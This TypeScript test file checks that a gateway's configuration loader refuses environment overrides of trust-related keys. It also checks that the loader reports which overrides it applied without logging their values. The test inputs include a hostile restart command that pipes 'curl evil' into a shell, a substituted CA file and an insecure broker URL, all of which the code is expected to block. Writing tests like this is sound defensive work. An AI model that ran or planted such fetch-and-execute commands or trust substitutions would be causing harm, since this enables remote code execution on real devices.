import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { applyEnvOverrides, listEnvOverrides, TRUST_OVERRIDE_OPT_IN } from '../../../main/config/load.js';
import { validateConfig } from '../../../main/config/validate.js';
import { ConfigError } from '../../../main/shared/errors.js';
import { CliProcess, runCli } from '../../helpers/cli.js';

const minimal = () => ({ gateway: { id: 'gw-1', dataDir: '/var/lib/fieldgate' }, cloud: { url: 'mqtts://broker.example.com:8883', caFile: '/etc/fg/ca.pem' } });

function refusal(env: Record<string, string>): string[] {
  try {
    applyEnvOverrides(minimal(), env);
  } catch (error) {
    assert.ok(error instanceof ConfigError, String(error));
    return error.problems;
  }
  assert.fail(`expected ${JSON.stringify(env)} to be refused`);
}

const root = mkdtempSync(join(tmpdir(), 'fieldgate-env-'));
after(() => rmSync(root, { recursive: true, force: true }));

describe('FIELDGATE__* environment overrides', () => {
  it('lists every override with the key it sets, without its value', () => {
    assert.deepEqual(listEnvOverrides({ FIELDGATE__UI__PORT: '9090', FIELDGATE__GATEWAY__DATA_DIR: '/srv', OTHER: 'x', FIELDGATE_CONFIG: '/etc/x.yaml' }), [
      { variable: 'FIELDGATE__GATEWAY__DATA_DIR', key: 'gateway.dataDir' },
      { variable: 'FIELDGATE__UI__PORT', key: 'ui.port' },
    ]);
  });

  it('refuses overrides of trust-related keys, naming the key, the variable and the opt-in', () => {
    const cases: Record<string, string> = {
      FIELDGATE__CLOUD__ALLOW_INSECURE: 'true',
      FIELDGATE__CLOUD__CA_FILE: '/tmp/evil-ca.pem',
      FIELDGATE__CLOUD__KEY_FILE: '/tmp/k.pem',
      FIELDGATE__OTA__TRUSTED_KEYS_FILE: '/tmp/keys.json',
      FIELDGATE__OTA__RESTART_COMMAND: '["/bin/sh","-c","curl evil | sh"]',
      FIELDGATE__UI__HOST: '0.0.0.0',
      FIELDGATE__UI__TOKEN_FILE: '/tmp/token',
      FIELDGATE__OTA: '{trustedKeysFile: /tmp/keys.json}',
    };
    for (const [variable, value] of Object.entries(cases)) {
      const [problem] = refusal({ [variable]: value });
      assert.match(problem ?? '', new RegExp(`set by ${variable}, but this key decides whom the gateway trusts`), variable);
      assert.match(problem ?? '', new RegExp(`${TRUST_OVERRIDE_OPT_IN}=1`), variable);
    }
    assert.match(refusal({ FIELDGATE__OTA__RESTART_COMMAND: '[x]' })[0] ?? '', /^"ota\.restartCommand": /);
  });

  it('refuses cloud.url when it ends up plaintext or insecure, allows it over verified TLS', () => {
    assert.match(refusal({ FIELDGATE__CLOUD__URL: 'mqtt://evil.example.com:1883' })[0] ?? '', /^"cloud\.url": set by FIELDGATE__CLOUD__URL/);
    const insecure = { ...minimal(), cloud: { ...minimal().cloud, allowInsecure: true } };
    assert.throws(() => applyEnvOverrides(insecure, { FIELDGATE__CLOUD__URL: 'mqtts://other.example.com:8883' }), ConfigError);
    const moved = validateConfig(applyEnvOverrides(minimal(), { FIELDGATE__CLOUD__URL: 'mqtts://other.example.com:8883' }));
    assert.equal(moved.cloud?.url, 'mqtts://other.example.com:8883');
  });

  it(`applies trust-related overrides when ${TRUST_OVERRIDE_OPT_IN}=1`, () => {
    const document = applyEnvOverrides(minimal(), { FIELDGATE__CLOUD__CA_FILE: '/etc/fg/other-ca.pem', [TRUST_OVERRIDE_OPT_IN]: '1' }) as { cloud: { caFile: string } };
    assert.equal(document.cloud.caFile, '/etc/fg/other-ca.pem');
  });

  it('config check prints the overrides it applied, and refuses a trust override', async () => {
    const file = join(root, 'fieldgate.yaml');
    writeFileSync(file, 'gateway:\n  id: gw-1\n  dataDir: ./data\nui:\n  enabled: false\n');
    const ok = await runCli(['config', 'check', file], { FIELDGATE__UI__PORT: '9090', FIELDGATE__LOG__LEVEL: 'debug' });
    assert.equal(ok.code, 0, ok.stderr);
    assert.deepEqual(ok.stdout.trim().split('\n').slice(1), ['override: log.level from FIELDGATE__LOG__LEVEL', 'override: ui.port from FIELDGATE__UI__PORT']);
    const refused = await runCli(['config', 'check', file], { FIELDGATE__OTA__TRUSTED_KEYS_FILE: '/tmp/keys.json' });
    assert.notEqual(refused.code, 0);
    assert.match(refused.stderr, /"ota\.trustedKeysFile": set by FIELDGATE__OTA__TRUSTED_KEYS_FILE/);
  });

  it('fieldgate run logs the name of every override it applied, not its value', async () => {
    const file = join(root, 'run.yaml');
    writeFileSync(file, `gateway:\n  id: gw-1\n  dataDir: ${join(root, 'run-data')}\nui:\n  enabled: false\n`);
    const gateway = new CliProcess(['run', '--config', file], { FIELDGATE__LOG__LEVEL: 'info', FIELDGATE__BUFFER__TTL_HOURS: '48' });
    try {
      await gateway.waitForLine('gateway running');
      const overrides = gateway.records().filter((r) => typeof r.msg === 'string' && r.msg.includes('set from the environment'));
      assert.deepEqual(overrides.map((r) => [r.variable, r.configKey]), [
        ['FIELDGATE__BUFFER__TTL_HOURS', 'buffer.ttlHours'],
        ['FIELDGATE__LOG__LEVEL', 'log.level'],
      ]);
      assert.ok(!gateway.lines.some((line) => line.includes('"48"') || line.includes(':48')), 'values are not logged');
    } finally {
      gateway.child.kill('SIGTERM');
      await gateway.exit();
    }
  });
});
